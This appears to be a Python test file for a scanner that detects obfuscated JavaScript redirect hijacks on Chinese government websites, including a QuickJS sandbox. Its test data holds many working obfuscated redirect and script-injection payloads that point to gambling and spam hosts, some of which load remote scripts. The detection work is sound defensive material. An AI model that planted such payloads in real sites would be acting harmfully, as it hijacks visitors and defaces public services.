"""Obfuscated script redirects: static decoding of the new forms, the QuickJS sandbox, and the crawl end to end."""

from __future__ import annotations

import subprocess
import sys
import time
from datetime import date

import pytest

from govinspect.checks import Context, run_checks
from govinspect.checks.hijack import check as hijack_check
from govinspect.demo.defects_scripts import (
    ARRAY_TARGET,
    REFERRER_TARGET,
    ROTATED_TARGET,
    SCRIPT_HOSTS,
)
from govinspect.extract.html import extract_page
from govinspect.extract.jsbox import LIMIT_TECHNIQUE, ScriptSandbox
from govinspect.extract.scripts import find_targets, index_arrays
from govinspect.extract.suspicious import sandbox_candidates, suspicious
from govinspect.model import Page, SiteEntry
from govinspect.rules import load_rules
from govinspect.service import scan
from govinspect.settings import Settings
from govinspect.snapshot import Snapshot

from .support import LoopbackServer, html

AS_OF = date(2024, 5, 20)
HOME = "http://www.example-county.gov.cn/"
SITE = SiteEntry(name="某县人民政府", url=HOME)


def _hex(s: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in s)


def _uni(s: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in s)


def page_from(body: str, url: str = HOME + "xwzx/t20240510_1.html", head: str = "") -> Page:
    page = Page(url=url, final_url=url, status=200, content_type="text/html")
    extract_page(page, f"<html><head><meta charset='utf-8'><title>要闻</title>{head}</head><body>{body}</body></html>", AS_OF)  # fmt: skip
    return page


def hijacks(*pages: Page) -> list[dict[str, object]]:
    snap = Snapshot(SITE, as_of=AS_OF)
    snap.scope_hosts = {"www.example-county.gov.cn"}
    snap.add_page(Page(url=HOME, final_url=HOME, status=200, content_type="text/html"), home=True)
    for page in pages:
        snap.add_page(page)
    found = hijack_check(snap, Context(as_of=AS_OF, rules=load_rules(), site=SITE))
    # security.third_party is the script inventory notice (issue 8 item 5), not a hijack
    return [f.evidence for f in found if f.code == "security.hijack"]


@pytest.fixture(scope="module")
def sandbox():
    box = ScriptSandbox(seconds=0.5)
    yield box
    box.close()


# --- static decoding of the new forms --------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "url", "technique"),
    [
        # a javascript-obfuscator style string array read by index into window[...][...]
        ("var _0x1a2b=['" + _hex("location") + "','" + _hex("href") + "','" + _hex("http://www.yl8899.com/")
         + "'];window[_0x1a2b[0]][_0x1a2b[1]]=_0x1a2b[2];", "http://www.yl8899.com/", "location"),
        ('var _0xab=["' + _uni("top") + '","' + _uni("location") + '","' + _uni("replace") + '","'
         + _uni("https://a-bet.cc/") + '"];window[_0xab[0x0]][_0xab[0x1]][_0xab[0x2]](_0xab[0x3]);',
         "https://a-bet.cc/", "location"),
        ("var k=['document','write','<script src=\"http://x.cc/a.js\"></scr'+'ipt>'];window[k[0]][k[1]](k[2]);",
         "http://x.cc/a.js", "document_write"),
        ("parent.location.href='http://p-spam.com/'", "http://p-spam.com/", "location"),
        ("self.location='http://s-spam.com/'", "http://s-spam.com/", "location"),
        ("location.assign('http://as-spam.com/')", "http://as-spam.com/", "location"),
        ("window.top.location.href = \"http://t-spam.com/\"", "http://t-spam.com/", "location"),
        ("location['replace']('http://br-spam.com/')", "http://br-spam.com/", "location"),
        ("document['write']('<a href=\"http://dw-spam.com\">x</a>')", "http://dw-spam.com", "document_write"),
        ("document.write('<scr'+'ipt type=\"text/javascript\" src=\"http://w.cc/1.js\"></scr'+'ipt>');",
         "http://w.cc/1.js", "document_write"),
        ("setTimeout(\"location.href='http://st-spam.com/'\", 3000);", "http://st-spam.com/", "location"),
        ("setTimeout('window.location.replace(\"http://st2.com/\")',0)", "http://st2.com/", "location"),
        ("if(document.referrer.indexOf('baidu')!=-1){location.href='http://ref-spam.com/'}",
         "http://ref-spam.com/", "referrer_check"),
    ],
)  # fmt: skip
def test_new_static_forms(code: str, url: str, technique: str) -> None:
    assert [(t.url, t.technique) for t in find_targets(code)] == [(url, technique)]


def test_string_array_reads_are_replaced_and_out_of_range_reads_kept() -> None:
    assert index_arrays("var a=['x','y'];f(a[1],a[0x0],a[7],ba[1])") == "var a=['x','y'];f('y','x',a[7],ba[1])"


# --- clean government scripts ----------------------------------------------------------------

CLEAN_SCRIPTS = [
    # menus and tabs (display toggles), a date line, a search button, a back button
    "function showMenu(i){for(var j=1;j<=6;j++){document.getElementById('sub'+j).style.display=(i==j)?'block':'none';}}",
    "$(function(){$('.tab-hd li').hover(function(){var i=$(this).index();$(this).addClass('on').siblings().removeClass('on');"
    "$('.tab-bd .item').eq(i).show().siblings().hide();});});",
    "var d=new Date();var w=['日','一','二','三','四','五','六'];document.write(d.getFullYear()+'年'+(d.getMonth()+1)+'月'"
    "+d.getDate()+'日 星期'+w[d.getDay()]);",
    "function doSearch(){var kw=document.getElementById('kw').value;if(!kw){alert('请输入关键词');return false;}"
    "window.location.href='/search?q='+encodeURIComponent(kw);}",
    # the Baidu statistics loader as its help page gives it, written in our own words
    "var _hmt=_hmt||[];(function(){var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?0a1b2c3d4e5f';"
    "var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(hm,s);})();",
    # a JSONP callback and a font-size switcher read window[...] with a variable
    "function jsonp(u,cb){var n='cb'+(+new Date());window[n]=function(d){cb(d);};var s=document.createElement('script');"
    "s.src=u+'&callback='+n;document.getElementsByTagName('head')[0].appendChild(s);}",
    "function setFont(size){var el=document.getElementById('zoom');el.style.fontSize=size+'px';window['curSize']=size;}",
    # mobile redirect to the site's own mobile pages
    "if(/Android|iPhone|iPad/i.test(navigator.userAgent)){window.location.href='http://m.example-county.gov.cn/';}",
    # a packed vendor helper (Dean Edwards' packer) that only sets a cookie
    "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--)d[c]=k[c]||c;"
    "k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp("
    "'\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0.1=\\'2=3\\';',4,4,'document|cookie|visited|1'.split('|'),0,{}))",
    # search-engine push and share loaders that build their script URL at run time (their hosts
    # need not be on the trusted list: only what suspicious scripts do counts in the sandbox)
    "(function(){var u='https://push.example-stats.com/p.js?'+(+new Date());document.write('<script src=\"'+u+'\"><\\/script>');})();",
    "window._shareCfg={common:{}};with(document)0[(getElementsByTagName('head')[0]||body).appendChild(createElement('script'))"
    ".src='http://bdimg.share.baidu.com/static/api/js/share.js?v='+~(-new Date()/36e5)];",
    # a channel tag set from the referrer (no redirect)
    "var channel='direct';if(document.referrer.indexOf('baidu')!=-1){channel='baidu';}document.cookie='ch='+channel+';path=/';",
    # Chinese labels written as \\u escapes (a CMS's menu data)
    "var labels=['" + "','".join(_uni(w) for w in ("首页", "政务公开", "政务服务", "互动交流", "走进本县", "专题专栏",
                                                    "通知公告", "政策文件", "政策解读", "领导信息", "机构职能")) + "'];",
]  # fmt: skip


def test_clean_scripts_give_no_hijack_even_through_the_sandbox(sandbox: ScriptSandbox) -> None:
    body = (
        "<div id='nav'><a href='/'>首页</a></div><input id='kw'><button onclick='doSearch()'>搜索</button>"
        "<a href='javascript:void(0)' onclick=\"location.href='/'\">返回</a>"
        "<a href='#' onclick=\"window.location.href='/xxgk/'\">信息公开</a>"
        + "".join(f"<script>{code}</script>" for code in CLEAN_SCRIPTS)
    )
    page = page_from(body)
    # The escape-heavy menu data and the JSONP helper are worth a run; the run finds nothing harmful.
    assert page.pending_scripts
    sandbox.apply(page)
    assert not page.pending_scripts
    assert not [t for t in page.script_targets if t["technique"] == LIMIT_TECHNIQUE]
    assert hijacks(page) == []


@pytest.mark.parametrize("code", [*CLEAN_SCRIPTS[:5], CLEAN_SCRIPTS[-1]])
def test_plain_scripts_are_not_suspicious(code: str) -> None:
    assert not suspicious(code)


@pytest.mark.parametrize(
    "code",
    [
        # literal arguments spread over lines, as a footer badge loader is often written
        "$('.footer-right').html(\n  unescape(\n    \"%3Cspan id='_ideConac'%3E%3C/span%3E\"\n  )\n);",
        "var c = String.fromCharCode( 65 ); var w = window[ 'innerWidth' ]; eval( 'var a=1' );",
    ],
)
def test_literal_arguments_after_spaces_are_not_suspicious(code: str) -> None:
    assert not suspicious(code)


FRIEND_LINKS = (
    # a 友情链接 box rendered from data, names as \\u escapes, hosts of local news sites
    "var fl=[" + ",".join("{n:'" + _uni(n) + "',u:'" + u + "'}" for n, u in (
        ("县融媒体中心", "http://www.example-rongmei.com/"), ("市新闻网", "http://www.example-citynews.cn/"),
        ("省政府", "http://www.example-province.gov.cn/"), ("人民网", "http://www.people.com.cn/"),
        ("新华网", "http://www.news.cn/"), ("市日报", "http://epaper.example-daily.com/"))) + "];"
    "var h='';for(var i=0;i<fl.length;i++){h+='<a href=\"'+fl[i].u+'\" target=\"_blank\">'+fl[i].n+'</a>';}"
    "document.getElementById('yqlj').innerHTML=h;"
)  # fmt: skip


def test_script_rendered_friend_links_are_not_run_nor_counted(sandbox: ScriptSandbox) -> None:
    assert not suspicious(FRIEND_LINKS)
    page = page_from(f"<div id='yqlj'></div><script>{FRIEND_LINKS}</script>")
    assert page.pending_scripts == [] and hijacks(page) == []
    # next to a suspicious script the friend links run too, but only the suspicious script counts
    page = page_from(f"<div id='yqlj'></div><script>{FRIEND_LINKS}</script><script>var _0x2d1f=window[k];</script>")
    assert page.pending_scripts
    sandbox.apply(page)
    assert page.script_targets == [] and hijacks(page) == []


def test_a_partly_readable_script_still_runs_in_the_sandbox(sandbox: ScriptSandbox) -> None:
    # a readable redirect next to a payload written out from a reversed string
    reversed_tag = '<script src="http://203.0.113.9/jq.js"></script>'[::-1]
    code = (
        "var _0x1a2b=['" + _hex("http://www.yl8899.com/") + "','" + _hex(reversed_tag) + "'];"
        "function _0x3c4d(){top.location.href=_0x1a2b[0];}"
        "document['write'](_0x1a2b[1]['split']('')['reverse']()['join'](''));"
    )
    assert [t.url for t in find_targets(code)] == ["http://www.yl8899.com/"]
    assert sandbox_candidates(["var a=1;", code]) == ["var a=1;", code]
    assert sandbox_candidates(["var a=1;"]) == []
    page = page_from(f"<script>{code}</script>")
    sandbox.apply(page)
    assert {(t["url"], t["technique"], t.get("via")) for t in page.script_targets} == {
        ("http://www.yl8899.com/", "location", None), ("http://203.0.113.9/jq.js", "document_write", "sandbox")
    }


# --- the sandbox -------------------------------------------------------------------------------


def _rotated(words: list[str], name: str = "_0x3f2a") -> str:
    """A string array stored rotated by one and put back at run time, read through an accessor."""
    stored = words[-1:] + words[:-1]
    return (
        f"var {name}=[" + ",".join("'" + _hex(w) + "'" for w in stored) + "];"
        f"(function(_0x1b,_0x2c){{var _0x4d=function(_0x5e){{while(--_0x5e){{_0x1b['push'](_0x1b['shift']());}}}};"
        f"_0x4d(++_0x2c);}}({name},0x1));"
        f"var _0x19c4=function(_0x3a){{_0x3a=_0x3a-0x0;return {name}[_0x3a];}};"
    )


def test_rotated_string_array_redirect_is_found_by_the_sandbox(sandbox: ScriptSandbox) -> None:
    code = _rotated(["href", "location", "http://www.ag9988.vip/", "top"]) + (
        "window[_0x19c4('0x3')][_0x19c4('0x1')][_0x19c4('0x0')]=_0x19c4('0x2');"
    )
    page = page_from(f"<p>正文</p><script>var menu=1;</script><script>{code}</script>")
    assert not [t for t in page.script_targets if t["url"]]  # static decoding cannot read it
    sandbox.apply(page)
    [target] = [t for t in page.script_targets if t["via"] == "sandbox"]
    assert target["url"] == "http://www.ag9988.vip/" and target["technique"] == "location"
    assert target["script"] == 1 and target["snippet"].startswith("var _0x3f2a=")
    [finding] = hijacks(page)
    assert finding["kind"] == "js_redirect" and finding["target"] == "http://www.ag9988.vip/"


def test_referrer_and_spider_conditions_show_as_referrer_check(sandbox: ScriptSandbox) -> None:
    by_referrer = (
        "var r=document[String.fromCharCode(114,101,102,101,114,114,101,114)];"
        "var u=['ht','tp://www.','xpj','55.com/'];"
        "if(r.indexOf('baidu')>-1||r.indexOf('sogou')>-1){window[String.fromCharCode(108,111,99,97,116,105,111,110)]=u.join('');}"
    )
    by_agent = (
        "var a=navigator['user'+'Agent'].toLowerCase(),h=['<a href=\"http://www.','bwin88','.net/\">体育</a>'];"
        "if(a.indexOf('spider')>=0){document.write(h.join(''));}"
    )
    page = page_from(f"<script>{by_referrer}</script><script>{by_agent}</script>")
    sandbox.apply(page)
    found = {t["url"]: (t["technique"], t["variant"]) for t in page.script_targets if t["via"] == "sandbox"}
    assert found == {"http://www.xpj55.com/": ("referrer_check", "search"),
                     "http://www.bwin88.net/": ("referrer_check", "spider")}  # fmt: skip


def test_written_scripts_timers_and_load_handlers_run_but_clicks_do_not(sandbox: ScriptSandbox) -> None:
    code = (
        "var p=[104,116,116,112,58,47,47],q=function(a){return String.fromCharCode.apply(null,p.concat(a))};"
        "document.write('<script>location.replace(q([119,46,99,111,109,47]))<\\/script>');"
        "setTimeout(function(){var s=document.createElement('script');s.src=q([120,46,99,99,47,97,46,106,115]);"
        "document.getElementsByTagName('head')[0].appendChild(s);},2000);"
        "window.onload=function(){document.getElementById('f').innerHTML='<iframe src=\"'+q([105,46,99,111,109,47])+'\"></iframe>'};"
        "document.getElementById('b').onclick=function(){location.href=q([99,46,99,111,109,47])};"
        "$('#b').click(function(){location.href=q([99,50,46,99,111,109,47])});"
        "$(function(){$('#foot').append('<a href=\"'+q([106,46,99,111,109,47])+'\">j</a>');});"
    )
    page = page_from(f"<script>{code}</script>")
    sandbox.apply(page)
    found = {t["url"]: t["technique"] for t in page.script_targets if t["via"] == "sandbox"}
    assert found == {"http://w.com/": "location", "http://x.cc/a.js": "script_inject", "http://i.com/": "inner_html",
                     "http://j.com/": "inner_html"}  # fmt: skip


@pytest.mark.parametrize(
    ("code", "reason"),
    [
        ("var _0x1=1;for(;;){}", "timeout"),
        ("var _0x2=[],_0x5=new Array(1<<20).join('x');for(;;){_0x2.push(_0x5+_0x2.length)}", "memory"),
        # a catastrophic regular expression is not interrupted by QuickJS: the process is killed
        ("var _0x3=/(a+)+b/;_0x3.test('a'.repeat(40));", "killed"),
    ],
)
def test_scripts_that_never_end_become_notices_on_time(code: str, reason: str) -> None:
    box = ScriptSandbox(seconds=0.3)
    try:
        page = page_from(
            "<script>var _0xabc=window[String.fromCharCode(116,111,112)];</script>"
            f"<script>{code}</script><script>eval(atob('bG9jYXRpb24uaHJlZj0naHR0cDovL2xhdGUuY29tLyc='))</script>"
        )
        start = time.monotonic()
        box.apply(page)
        assert time.monotonic() - start < 6
        limits = [t for t in page.script_targets if t["technique"] == LIMIT_TECHNIQUE]
        assert limits and limits[0]["reason"] == reason
        if reason != "killed":  # the looping script is named, and the scripts after it still ran
            assert limits[0]["script"] == 1 and limits[0]["snippet"].startswith(code[:20])
        snap = Snapshot(SITE, as_of=AS_OF)
        snap.add_page(Page(url=HOME, final_url=HOME, status=200, content_type="text/html"), home=True)
        snap.add_page(page)
        notices = [f for f in run_checks(snap, Context(as_of=AS_OF, rules=load_rules(), site=SITE), ["sandbox"])]
        assert [(f.code, f.severity, f.url) for f in notices] == [("crawl.incomplete", "notice", page.url)]
        assert "沙箱" in notices[0].message
        # the sandbox is usable again after a kill
        again = page_from("<script>var c=[104,116,116,112,58,47,47,97,46,99,111,109,47];"
                          "window['loca'+'tion']=String.fromCharCode.apply(null,c);</script>")
        box.apply(again)
        assert [(t["url"], t["via"]) for t in again.script_targets] == [("http://a.com/", "sandbox")]
    finally:
        box.close()


def test_identical_template_scripts_run_once_and_runs_are_capped() -> None:
    box = ScriptSandbox(seconds=0.3, max_runs=2)
    try:
        code = _rotated(["href", "location", "http://www.ag9988.vip/", "top"]) + (
            "window[_0x19c4('0x3')][_0x19c4('0x1')][_0x19c4('0x0')]=_0x19c4('0x2');"
        )
        for n in range(5):
            # the template's injected script is the same on every page, the page's own scripts are not
            own = "".join(f"<script>var articleId={n * 10 + k};</script>" for k in range(n))
            page = page_from(f"{own}<script>{code}</script>", url=f"{HOME}xwzx/t2024051{n}_1.html")
            box.apply(page)
            [target] = [t for t in page.script_targets if t["url"]]
            assert target["url"] == "http://www.ag9988.vip/" and target["script"] == n
        assert box.runs == 1
        box.apply(page_from("<script>var _0x2=window[a];</script>"))
        capped = page_from("<script>var _0x3=window[b];</script>")
        box.apply(capped)
        assert box.runs == 2
        assert [t["reason"] for t in capped.script_targets] == ["capped"]
    finally:
        box.close()


# --- the crawl -----------------------------------------------------------------------------------


def test_crawl_runs_the_sandbox_and_the_scan_reports_it() -> None:
    obfuscated = _rotated(["href", "location", "http://www.ag9988.vip/", "top"]) + (
        "window[_0x19c4('0x3')][_0x19c4('0x1')][_0x19c4('0x0')]=_0x19c4('0x2');"
    )
    home = "<html><head><title>某县人民政府</title></head><body><a href='/xwzx/a.html'>要闻</a></body></html>"
    article = f"<html><head><title>要闻</title><script>{obfuscated}</script></head><body><p>正文内容</p></body></html>"
    looping = "<html><head><title>通知</title><script>var _0x4f2a=1;while(_0x4f2a){}</script></head><body><p>通知</p></body></html>"  # fmt: skip
    home += "<a href='/tzgg/b.html'>通知</a>"
    settings = Settings(per_host=2, delay=0, timeout=5, offline=True, cloak_sample=0, search_probe=False,
                        transport_probes=False)  # fmt: skip
    with LoopbackServer({"/": html(home), "/xwzx/a.html": html(article), "/tzgg/b.html": html(looping)}) as srv:
        start = time.monotonic()
        result = scan([SiteEntry(name="某县人民政府", url=srv.url("/"))], settings, AS_OF)
        assert time.monotonic() - start < 30
    findings = result.sites[0].findings
    [hijack] = [f for f in findings if f.code == "security.hijack"]
    assert hijack.url == srv.url("/xwzx/a.html") and hijack.evidence["target"] == "http://www.ag9988.vip/"
    assert hijack.evidence["decoded"] == ["sandbox"]
    [notice] = [f for f in findings if f.code == "crawl.incomplete" and "沙箱" in f.message]
    assert notice.url == srv.url("/tzgg/b.html") and notice.evidence["script"] == 1


def test_the_sandbox_time_budget_caps_a_crawl() -> None:
    box = ScriptSandbox(seconds=0.2, max_seconds=0.1)
    try:
        first = page_from("<script>var _0x4f2a=1;while(_0x4f2a){}</script>")
        box.apply(first)
        assert [t["reason"] for t in first.script_targets] == ["timeout"]
        later = page_from("<script>var _0x5e3b=window[a];</script>")
        box.apply(later)
        assert [t["reason"] for t in later.script_targets] == ["capped"] and box.spent >= 0.1
    finally:
        box.close()


def test_pages_parsed_in_a_worker_process_are_sandboxed_too() -> None:
    code = _rotated(["href", "location", "http://www.ag9988.vip/", "top"]) + (
        "window[_0x19c4('0x3')][_0x19c4('0x1')][_0x19c4('0x0')]=_0x19c4('0x2');"
    )
    home = f"<html><head><title>某县人民政府</title><script>{code}</script></head><body><p>首页</p></body></html>"
    settings = Settings(per_host=1, delay=0, timeout=5, offline=True, cloak_sample=0, search_probe=False,
                        transport_probes=False, parse_workers=1)  # fmt: skip
    with LoopbackServer({"/": html(home)}) as srv:
        result = scan([SiteEntry(name="某县人民政府", url=srv.url("/"))], settings, AS_OF)
    [hijack] = [f for f in result.sites[0].findings if f.code == "security.hijack"]
    assert hijack.evidence["target"] == "http://www.ag9988.vip/" and hijack.evidence["decoded"] == ["sandbox"]


def test_a_packer_variant_static_decoding_does_not_know_runs_in_the_sandbox(sandbox: ScriptSandbox) -> None:
    # Dean Edwards' packer with the keyword list split on "^" instead of "|"
    packed = (
        "eval(function(p,a,c,k,e,r){e=String;if(!''.replace(/^/,String)){while(c--)r[c]=k[c]||c;"
        "k=[function(e){return r[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])"
        "p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}"
        "('0.1.2=\\'3://4.5/\\';',6,6,'window^location^href^http^www.pj-casino8^com'.split('^'),0,{}))"
    )
    assert find_targets(packed) == []
    page = page_from(f"<script>{packed}</script>")
    sandbox.apply(page)
    assert [(t["url"], t["technique"]) for t in page.script_targets] == [("http://www.pj-casino8.com/", "location")]


# --- the fixture world -------------------------------------------------------------------------


def _world_pages(site) -> dict[str, str]:
    return {
        path: res.body.decode("gbk" if site.encoding == "gbk" else "utf-8")
        for path, res in site.iter_resources()
        if res.content_type.startswith("text/html") and res.status == 200
    }


def test_world_obfuscated_redirects_and_their_control(demo_world, sandbox: ScriptSandbox) -> None:
    fengtai, wjw = demo_world.site("fengtai"), demo_world.site("wjw")
    pages = _world_pages(fengtai)
    # the js_redirect plants of ObfuscatedRedirects (SpiderTitleScript plants a spider-only title)
    planted = {m.path for m in fengtai.truth.hijack
               if m.kind == "js_redirect" and "baiduspider|sogou|360spider" not in pages[m.path]}
    assert len(planted) == 3
    found: dict[str, tuple[str, list[str]]] = {}
    for path in planted:
        assert not any(host in pages[path] for host in SCRIPT_HOSTS)  # never in plain text
        page = page_from(pages[path], url="http://www.fengtai.gov.cn" + path)
        sandbox.apply(page)
        [finding] = [e for e in hijacks(page) if e["kind"] == "js_redirect"]
        found[str(finding["target"])] = (str(finding["technique"]), list(finding["decoded"]))  # type: ignore[call-overload]
    assert found == {
        ARRAY_TARGET: ("location", ["array", "escape"]),  # read statically
        ROTATED_TARGET: ("location", ["sandbox"]),
        REFERRER_TARGET: ("referrer_check", ["sandbox"]),
    }
    controls = [p for p, html in _world_pages(wjw).items() if "menuLabels" in html]
    assert len(controls) == 2
    for path in controls:
        page = page_from(_world_pages(wjw)[path], url="http://wjw.huainan.gov.cn" + path)
        assert page.pending_scripts  # escaped labels and a JSONP helper make it worth a run
        sandbox.apply(page)
        assert hijacks(page) == []


def test_the_sandbox_has_no_files_modules_or_network(sandbox: ScriptSandbox) -> None:
    code = (
        "var _0x7a1e=[typeof std,typeof os,typeof require,typeof process,typeof Deno];"
        "var x=new XMLHttpRequest();x.open('GET','http://127.0.0.1:9/');x.send();"
        "location.href=['http:','','probe.example-test.com',_0x7a1e.join('-'),x.readyState].join('/');"
    )
    page = page_from(f"<script>{code}</script>")
    sandbox.apply(page)
    assert [t["url"] for t in page.script_targets] == [
        "http://probe.example-test.com/undefined-undefined-undefined-undefined-undefined/0"
    ]


def test_sandbox_notices_are_capped_per_site_with_the_total() -> None:
    snap = Snapshot(SITE, as_of=AS_OF)
    snap.add_page(Page(url=HOME, final_url=HOME, status=200, content_type="text/html"), home=True)
    for n in range(12):
        url = f"{HOME}xwzx/t202405{n:02d}_1.html"
        limit = {"url": "", "technique": LIMIT_TECHNIQUE, "snippet": "var _0x4f2a=1;while(_0x4f2a){}", "decoded": [],
                 "source": "script", "via": "sandbox", "script": 2, "reason": "timeout", "detail": "运行超时"}  # fmt: skip
        snap.add_page(Page(url=url, final_url=url, status=200, content_type="text/html", script_targets=[limit]))
    notices = run_checks(snap, Context(as_of=AS_OF, rules=load_rules(), site=SITE), ["sandbox"])
    assert len(notices) == 10 and {f.code for f in notices} == {"crawl.incomplete"}
    assert notices[0].evidence["pages_total"] == 12 and notices[0].evidence["script"] == 3
    assert "第 3 段内嵌脚本" in notices[0].message and "运行超时" in notices[0].message


def test_suspicious_scripts_over_the_size_budget_are_reported(sandbox: ScriptSandbox) -> None:
    big = "var _0x4f2a=" + repr("x" * 200_000) + ";"
    scripts = sandbox_candidates([big, big + "var b=1;"])
    assert scripts[0] == big and "not run" in scripts[1]
    page = page_from(f"<script>{big}</script><script>{big}var b=1;</script>")
    sandbox.apply(page)
    assert [(t["technique"], t["reason"], t["script"]) for t in page.script_targets] == [(LIMIT_TECHNIQUE, "size", 1)]


def test_the_sandbox_can_be_switched_off() -> None:
    code = _rotated(["href", "location", "http://www.ag9988.vip/", "top"]) + (
        "window[_0x19c4('0x3')][_0x19c4('0x1')][_0x19c4('0x0')]=_0x19c4('0x2');"
    )
    home = f"<html><head><title>某县人民政府</title><script>{code}</script></head><body><p>首页</p></body></html>"
    settings = Settings(per_host=1, delay=0, timeout=5, offline=True, cloak_sample=0, search_probe=False,
                        transport_probes=False, script_sandbox=False)  # fmt: skip
    with LoopbackServer({"/": html(home)}) as srv:
        result = scan([SiteEntry(name="某县人民政府", url=srv.url("/"))], settings, AS_OF)
    assert not [f for f in result.sites[0].findings if f.code == "security.hijack"]


def test_the_stub_decodes_base64_like_a_browser(sandbox: ScriptSandbox) -> None:
    import base64

    hidden = base64.b64encode(b"http://www.b64-casino.com/").decode()[::-1]
    code = (
        f"var _0x6b1c='{hidden}'.split('').reverse().join('');"
        "if(btoa(atob(_0x6b1c))===_0x6b1c){window.location=atob(_0x6b1c);}"
    )
    page = page_from(f"<script>{code}</script>")
    sandbox.apply(page)
    assert [(t["url"], t["technique"]) for t in page.script_targets] == [("http://www.b64-casino.com/", "location")]


def test_a_redirect_for_phones_coming_from_search_shows(sandbox: ScriptSandbox) -> None:
    code = (
        "var _0x2e4f=navigator.userAgent,r=document.referrer;"
        "if(/Android|iPhone|iPad/i.test(_0x2e4f)&&/baidu|sogou|sm\\.cn/.test(r)){"
        "location.replace(['https:','','m.xpj-mobile.com','?f=gov'].join('/'));}"
    )
    page = page_from(f"<script>{code}</script>")
    sandbox.apply(page)
    assert [(t["url"], t["technique"], t["variant"]) for t in page.script_targets if t.get("via")] == [
        ("https://m.xpj-mobile.com/?f=gov", "referrer_check", "search")
    ]


def test_a_sandbox_process_that_dies_is_reported_and_replaced(monkeypatch: pytest.MonkeyPatch) -> None:
    box = ScriptSandbox(seconds=0.3)
    try:
        first = page_from("<script>var _0x1b2c=window[k];</script>")

        def dying() -> subprocess.Popen[bytes]:
            # a process that reads the job and ends without answering, as a crashed engine would
            box._proc = subprocess.Popen([sys.executable, "-c", "import sys; sys.stdin.readline()"],
                                         stdin=subprocess.PIPE, stdout=subprocess.PIPE)  # fmt: skip
            return box._proc

        monkeypatch.setattr(box, "_start", dying)
        box.apply(first)
        assert [t["reason"] for t in first.script_targets] == ["crashed"]
        monkeypatch.undo()
        second = page_from("<script>var c=[104,116,116,112,58,47,47,97,46,99,111,109,47];"
                           "window['loca'+'tion']=String.fromCharCode.apply(null,c);</script>")
        box.apply(second)
        assert [t["url"] for t in second.script_targets] == ["http://a.com/"]
    finally:
        box.close()


def test_page_scripts_cannot_hide_from_the_recorder(sandbox: ScriptSandbox) -> None:
    code = (
        "try{__setCur=function(){};__records=function(){return '[]'};"
        "Object.defineProperty(window,'location',{value:{}});}catch(e){}"
        "var _0x5a6b=[104,116,116,112,58,47,47,104,105,100,101,46,99,111,109,47];"
        "window.location.href=String.fromCharCode.apply(null,_0x5a6b);"
    )
    page = page_from(f"<script>var a=1;</script><script>{code}</script>")
    sandbox.apply(page)
    assert [(t["url"], t["script"]) for t in page.script_targets] == [("http://hide.com/", 1)]
